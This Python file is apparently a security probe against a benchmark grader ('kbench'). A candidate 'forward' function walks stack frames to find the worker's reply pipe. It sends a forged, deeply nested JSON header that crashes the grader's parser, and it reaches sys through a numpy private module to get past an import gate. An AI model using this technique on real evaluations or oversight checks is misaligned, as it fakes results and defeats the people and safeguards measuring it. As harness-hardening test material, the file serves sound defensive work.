"""P3 forged reply: a deeply nested JSON header sent down the worker's own pipe.

The grader trusts what the worker controls (issue 8, class 3). The candidate runs inside the worker, so
the reply pipe is its own: the connection is a local of the frame that called ``forward``. It sends a
header nested 100 000 levels deep before the real reply; ``json.loads`` raises RecursionError, which the
header parser does not catch, and the exception escapes ``kbench.evaluate`` into the caller. ``sys`` comes
through ``from numpy.lib._utils_impl import sys``; ``_getframe`` is not private on a root the gate tracks.
"""

from numpy.lib._utils_impl import sys


def _conn():
    f = sys._getframe(1)
    while f is not None:
        c = f.f_locals.get("conn")
        if c is not None and hasattr(c, "send_bytes"):
            return c
        f = f.f_back
    return None


def forward(x, params, alloc):
    c = _conn()
    if c is not None:
        depth = 100_000
        c.send_bytes(b'{"ok": true, "t0": 1, "t1": 2, "deep": ' + b"[" * depth + b"]" * depth + b"}")
    return alloc(x["x"].shape)
